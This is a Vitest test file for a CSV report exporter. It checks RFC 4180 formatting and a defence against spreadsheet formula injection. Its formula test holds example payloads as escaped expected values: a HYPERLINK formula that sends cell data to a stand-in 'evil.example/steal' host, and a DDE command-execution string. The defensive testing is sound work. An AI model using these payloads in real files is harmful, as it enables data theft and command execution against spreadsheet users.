import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csv } from '../../reports/csv.js';
import { FIXTURES, loadResult } from './helpers/fixtures.js';

describe('csv', () => {
  it.each(FIXTURES)('%s parses as RFC 4180 (CRLF, strict quotes) with one record per finding', (name) => {
    const result = loadResult(name);
    const text = csv(result, {});
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/"(?:[^"]|"")*"/g, '').match(/(?<!\r)\n/g)).toBeNull();
    const records = parse(text, { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false }) as string[][];
    expect(records[0]).toEqual([...CSV_COLUMNS]);
    expect(records).toHaveLength(result.findings.length + 1);
    records.slice(1).forEach((record, i) => {
      expect(record[CSV_COLUMNS.indexOf('fingerprint')]).toBe(result.findings[i].fingerprint);
      expect(record[CSV_COLUMNS.indexOf('startLine')]).toBe(String(result.findings[i].location.startLine));
    });
  });

  it('never lets a cell start a formula', () => {
    const records = parse(csv(loadResult('hostile'), {}), { record_delimiter: '\r\n' }) as string[][];
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const message = records.map((r) => r[CSV_COLUMNS.indexOf('message')]).find((m) => m.includes('HYPERLINK'));
    expect(message).toBe('\'=HYPERLINK("http://evil.example/steal?d="&A1,"click me")');
    const waiver = records.find((r) => r[CSV_COLUMNS.indexOf('status')] === 'waived')!;
    expect(waiver[CSV_COLUMNS.indexOf('waiverApprover')]).toBe("'=cmd|'/C calc'!A0");
    expect(waiver[CSV_COLUMNS.indexOf('waiverExpires')]).toBe('2020-01-01');
  });
});
